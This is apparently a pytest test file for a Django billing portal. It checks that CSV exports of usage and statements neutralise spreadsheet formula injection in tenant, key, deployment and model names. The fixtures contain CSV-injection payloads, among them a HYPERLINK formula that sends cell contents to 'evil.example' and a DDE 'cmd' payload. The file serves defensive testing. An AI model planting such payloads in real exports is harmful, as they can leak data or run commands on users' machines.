"""Every CSV the portal writes reaches a spreadsheet as text, never as a formula: names people
chose (API keys, tenants, deployments, models) are neutralised in the usage tables of tenants
and of the MSP, and in statements; numbers the portal computes stay numbers."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from billing.models import UsageRecord
from billing.statements import selectors as statements
from billing.statements.exports import statement_csv
from billing.usage.services import usage_records_ingest
from deployments.models import Backend, Deployment
from gateway import services as gateway_services
from models_catalog import services as catalog_services

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"details")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_usage(tenant, tenant_admin):
    tenant.name = "+cmd|' /C calc'!A0"
    tenant.save(update_fields=["name"])
    model = catalog_services.model_create(actor="system:test", slug="chat-small",
                                          name="Chat Small", task="chat")
    key, _ = gateway_services.apikey_create(actor=tenant_admin, tenant=tenant, name=HYPERLINK,
                                            owner=tenant_admin)
    deployment = Deployment.objects.create(model=model, tenant=tenant, backend=Backend.EXTERNAL,
                                           name="@SUM(1+1)*cmd", base_url="http://127.0.0.1:9")
    now = datetime.now(UTC)
    usage_records_ingest(events=[{
        "request_id": f"req_csv_{n}", "ts": now.timestamp(), "tenant_id": tenant.pk,
        "key_id": key.pk, "model_id": model.pk, "model": model.slug,
        "deployment_id": deployment.pk, "endpoint": "chat/completions", "status": 200,
        "streamed": False, "input_tokens": 10, "output_tokens": 5, "estimated": False,
        "latency_ms": 50, "ttft_ms": 50} for n in range(2)])
    return tenant


def test_tenant_usage_csv_neutralises_key_names(client, hostile_usage, tenant_admin):
    client.force_login(tenant_admin)
    url = f"/t/{hostile_usage.slug}/usage/"

    keys = _rows(client.get(url, {"range": "7", "csv": "keys"}))
    assert keys[0]["key"] == "'" + HYPERLINK
    assert keys[0]["requests"] == "2"
    models = _rows(client.get(url, {"range": "7", "csv": "models"}))
    assert models[0]["model"] == "chat-small"


def test_platform_usage_csv_neutralises_tenant_key_and_deployment_names(client, hostile_usage,
                                                                        msp_admin):
    client.force_login(msp_admin)

    tenants = _rows(client.get("/msp/usage/", {"range": "7", "csv": "tenants"}))
    assert tenants[0]["tenant"] == "'+cmd|' /C calc'!A0"
    keys = _rows(client.get("/msp/usage/", {"range": "7", "csv": "keys"}))
    assert keys[0]["key"] == "'" + HYPERLINK
    deployments = _rows(client.get("/msp/usage/", {"range": "7", "csv": "deployments"}))
    assert deployments[0]["deployment"] == "'@SUM(1+1)*cmd"
    series = _rows(client.get("/msp/usage/", {"range": "7", "csv": "series"}))
    assert sum(int(row["requests"]) for row in series) == 2


def test_statement_csv_neutralises_text_and_keeps_negative_amounts_numeric(tenant):
    line = statements.Line(kind="correction", source_period=date(2026, 7, 1),
                           model_slug="-2+3", currency="EUR",
                           input_price_per_million=Decimal("2"),
                           output_price_per_million=Decimal("6"), requests=-1,
                           input_tokens=-1000, output_tokens=-500, amount=Decimal("-3.20"))
    data = statements.StatementData(tenant, date(2026, 8, 1), False, lines=[line])

    rows = list(csv.reader(io.StringIO(statement_csv(data))))

    correction = rows[1]
    assert correction[3] == "'-2+3"
    assert correction[7:11] == ["-1", "-1000", "-500", "-3.20"]
    assert correction[11:] == ["", "0", "0"]  # cached-input price, cached and reasoning tokens


def test_statement_downloads_go_through_the_same_writer(client, tenant, tenant_admin):
    model = catalog_services.model_create(actor="system:test", slug="chat-small",
                                          name="Chat", task="chat")
    now = datetime.now(UTC)
    usage_records_ingest(events=[{
        "request_id": "req_stmt", "ts": now.timestamp(), "tenant_id": tenant.pk,
        "key_id": None, "model_id": model.pk, "model": model.slug, "deployment_id": None,
        "endpoint": "chat/completions", "status": 200, "streamed": False, "input_tokens": 10,
        "output_tokens": 5, "estimated": False, "latency_ms": 50, "ttft_ms": 50}])
    # A slug stored before today's validation, or restored from a backup, is still only text.
    type(model).objects.filter(pk=model.pk).update(slug="=1+1")
    UsageRecord.objects.update(model_slug="=1+1")
    client.force_login(tenant_admin)
    month = f"{now:%Y-%m}"
    for url in (f"/t/{tenant.slug}/statements/{month}.csv",
                f"/api/tenants/{tenant.slug}/statements/{month}.csv"):
        rows = _rows(client.get(url))
        assert [row["model"] for row in rows if row["kind"] != "total"] == ["'=1+1"]
